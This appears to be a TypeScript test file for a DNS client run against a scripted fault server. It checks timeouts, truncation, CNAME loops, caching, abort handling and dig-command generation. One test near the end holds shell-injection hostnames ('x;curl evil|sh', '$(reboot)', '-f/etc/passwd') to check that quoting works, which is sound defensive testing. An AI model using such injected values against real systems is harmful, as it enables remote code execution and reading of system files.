// The DNS client against a scripted server: faults BIND will not produce, sharing, caching, abort.
import { strict as assert } from 'node:assert';
import { after, before, describe, it } from 'node:test';
import { createResolver, parseServer } from '../../src/core/dns/resolver';
import { startFaultDns, type FaultDnsServer } from '../harness/fault-dns';

const TIMEOUT = 150;
const RETRIES = 1;
/** Every fault must be decided within the attempts' timeouts plus generous slack. */
const DEADLINE = TIMEOUT * (RETRIES + 1) + 1500;

describe('DNS client against a scripted server', () => {
  let dns: FaultDnsServer;
  before(async () => {
    const fan: string[] = [];
    for (let i = 1; i <= 40; i++) fan.push(`192.0.2.${i}`);
    dns = await startFaultDns({
      records: {
        'ok.example': { A: ['192.0.2.1'], TTL: 300 },
        'big.example': { A: fan, TTL: 300 },
        'alias.example': { CNAME: 'ok.example' },
        'loop1.example': { CNAME: 'loop2.example' },
        'loop2.example': { CNAME: 'loop1.example' },
        'txtonly.example': { TXT: ['v=spf1 -all'] },
        'silent.example': { A: ['192.0.2.9'] },
        'trunc.example': { A: ['192.0.2.8'] },
      },
      behaviours: {
        'silent.example': { kind: 'silent' },
        'trunc.example': { kind: 'truncate' },
        'servfail.example': { kind: 'rcode', rcode: 'SERVFAIL' },
        'refused.example': { kind: 'rcode', rcode: 'REFUSED' },
        'wrongid.example': { kind: 'wrong-id' },
        'wrongq.example': { kind: 'wrong-question' },
        'garbage.example': { kind: 'garbage' },
        'slow.example': { kind: 'delay', ms: 100 },
      },
    });
  });
  after(() => dns.stop());

  const resolver = () => createResolver({ servers: [dns.server], timeoutMs: TIMEOUT, retries: RETRIES });

  it('answers, normalising names, and records the server', async () => {
    const r = await resolver().query('OK.Example.', 'A');
    assert.equal(r.rcode, 'NOERROR');
    assert.deepEqual(r.answers.map((a) => [a.name, a.data, a.ttl]), [['ok.example', '192.0.2.1', 300]]);
    assert.equal(r.server, dns.server);
  });

  it('reports NXDOMAIN and NODATA as answers, not errors', async () => {
    const res = resolver();
    const nx = await res.query('nothing.example', 'A');
    assert.equal(nx.rcode, 'NXDOMAIN');
    const nodata = await res.query('txtonly.example', 'A');
    assert.equal(nodata.rcode, 'NOERROR');
    assert.equal(nodata.answers.length, 0);
  });

  for (const [name, rcode] of [
    ['silent.example', 'TIMEOUT'],
    ['wrongid.example', 'TIMEOUT'],
    ['wrongq.example', 'TIMEOUT'],
    ['garbage.example', 'TIMEOUT'],
    ['servfail.example', 'SERVFAIL'],
    ['refused.example', 'REFUSED'],
  ] as const) {
    it(`ends ${name} as ${rcode} within the deadline, naming the server`, async () => {
      const started = Date.now();
      const r = await resolver().query(name, 'A');
      assert.equal(r.rcode, rcode);
      assert.equal(r.answers.length, 0);
      assert.ok(Date.now() - started < DEADLINE, `took ${Date.now() - started} ms`);
      assert.ok(r.error && r.error.length > 0);
      if (rcode === 'TIMEOUT') assert.match(r.error!, new RegExp(dns.server.replace(/\./g, '\\.')));
    });
  }

  it('retries over TCP when the UDP reply is truncated', async () => {
    const before = dns.queries.length;
    const r = await resolver().query('trunc.example', 'A');
    assert.equal(r.rcode, 'NOERROR');
    assert.equal(r.transport, 'tcp');
    assert.deepEqual(r.answers.map((a) => a.data), ['192.0.2.8']);
    assert.deepEqual(dns.queries.slice(before).map((q) => q.transport), ['udp', 'tcp']);
  });

  it('gets a large answer whole (EDNS size, or TCP after TC)', async () => {
    const r = await resolver().query('big.example', 'A');
    assert.equal(r.answers.length, 40);
  });

  it('follows CNAMEs in lookup() and stops on a CNAME loop', async () => {
    const res = resolver();
    const a = await res.lookup('alias.example', 'A');
    assert.deepEqual(a.records.map((r) => r.data), ['192.0.2.1']);
    assert.deepEqual(a.cnames.map((c) => [c.name, c.target]), [['alias.example', 'ok.example']]);
    const loop = await res.lookup('loop1.example', 'A');
    // Servers answer a CNAME loop with SERVFAIL; either way the lookup ends, with no records.
    assert.equal(loop.records.length, 0);
    assert.notEqual(loop.rcode, 'NOERROR');
  });

  it('shares one flight between identical concurrent questions and caches the answer', async () => {
    const res = resolver();
    const before = dns.queries.filter((q) => q.name === 'slow.example').length;
    const [a, b, c] = await Promise.all([res.query('slow.example', 'A'), res.query('slow.example', 'A'), res.query('SLOW.example', 'A')]);
    assert.equal(a.rcode, b.rcode);
    assert.equal(c.rcode, a.rcode);
    assert.equal(dns.queries.filter((q) => q.name === 'slow.example').length - before, 1);
    await res.query('ok.example', 'A');
    const cached = await res.query('ok.example', 'A');
    assert.equal(cached.transport, 'cache');
  });

  it('does not cache failures', async () => {
    const res = resolver();
    await res.query('servfail.example', 'A');
    const again = await res.query('servfail.example', 'A');
    assert.notEqual(again.transport, 'cache');
  });

  it('rejects with AbortError when the caller aborts, without failing other waiters', async () => {
    const res = resolver();
    const controller = new AbortController();
    const mine = res.query('silent.example', 'AAAA', { signal: controller.signal });
    const other = res.query('silent.example', 'AAAA');
    controller.abort();
    await assert.rejects(mine, (e: Error) => e.name === 'AbortError');
    assert.equal((await other).rcode, 'TIMEOUT');
  });

  it('stops a shared exchange once every waiter has aborted, not before', { timeout: 10_000 }, async () => {
    const res = createResolver({ servers: [dns.server], timeoutMs: 60_000, retries: 0 });
    const a = new AbortController();
    const b = new AbortController();
    const before = dns.queries.filter((q) => q.name === 'silent.example' && q.type === 'TXT').length;
    const sent = dns.queries.length;
    const first = res.query('silent.example', 'TXT', { signal: a.signal });
    const second = res.query('silent.example', 'TXT', { signal: b.signal });
    await dns.waitForQueries(sent + 1);
    a.abort();
    await assert.rejects(first, (e: Error) => e.name === 'AbortError');
    b.abort();
    await assert.rejects(second, (e: Error) => e.name === 'AbortError');
    // The flight is gone (not waiting out its 60 s): the same question starts a new exchange.
    const again = new AbortController();
    const sentBefore = dns.queries.length;
    const third = res.query('silent.example', 'TXT', { signal: again.signal });
    await dns.waitForQueries(sentBefore + 1);
    assert.equal(dns.queries.filter((q) => q.name === 'silent.example' && q.type === 'TXT').length - before, 2);
    again.abort();
    await assert.rejects(third, (e: Error) => e.name === 'AbortError');
  });

  it('reports a port with no server as UNREACHABLE quickly', async () => {
    const stopped = await startFaultDns({});
    const server = stopped.server;
    await stopped.stop();
    const r = await createResolver({ servers: [server], timeoutMs: 5000, retries: 0 }).query('ok.example', 'A');
    assert.equal(r.rcode, 'UNREACHABLE');
    assert.match(r.error ?? '', /connection refused/);
  });

  it('builds dig commands that ask the same server', () => {
    const res = resolver();
    assert.equal(res.dig('7.113.0.203.in-addr.arpa', 'PTR'), `dig @127.0.0.1 -p ${dns.port} -x 203.0.113.7`);
    assert.equal(res.dig('mail.example.com.', 'A'), `dig @127.0.0.1 -p ${dns.port} mail.example.com A`);
  });

  it('quotes hostile names so a copied dig command runs nothing else', () => {
    const res = resolver();
    assert.equal(res.dig("x;curl evil|sh'.example", 'A'), `dig @127.0.0.1 -p ${dns.port} 'x;curl evil|sh'\\''.example' A`);
    assert.equal(res.dig('$(reboot).example', 'A'), `dig @127.0.0.1 -p ${dns.port} '$(reboot).example' A`);
    assert.equal(res.dig('-f/etc/passwd', 'A'), `dig @127.0.0.1 -p ${dns.port} -q -f/etc/passwd -t A`);
  });
});

describe('parseServer', () => {
  it('parses host, host:port and [v6]:port, naming the bad entry', () => {
    assert.deepEqual(parseServer('127.0.0.1'), { ok: true, host: '127.0.0.1', port: 53 });
    assert.deepEqual(parseServer('127.0.0.1:5353'), { ok: true, host: '127.0.0.1', port: 5353 });
    assert.deepEqual(parseServer('[::1]:5300'), { ok: true, host: '::1', port: 5300 });
    assert.deepEqual(parseServer('::1'), { ok: true, host: '::1', port: 53 });
    assert.deepEqual(parseServer('localhost:53'), { ok: true, host: '127.0.0.1', port: 53 });
    const bad = parseServer('dns.example:53');
    assert.equal(bad.ok, false);
    assert.match((bad as { error: string }).error, /dns\.example:53.*IP address/);
    assert.match((parseServer('127.0.0.1:99999') as { error: string }).error, /port/);
  });
});
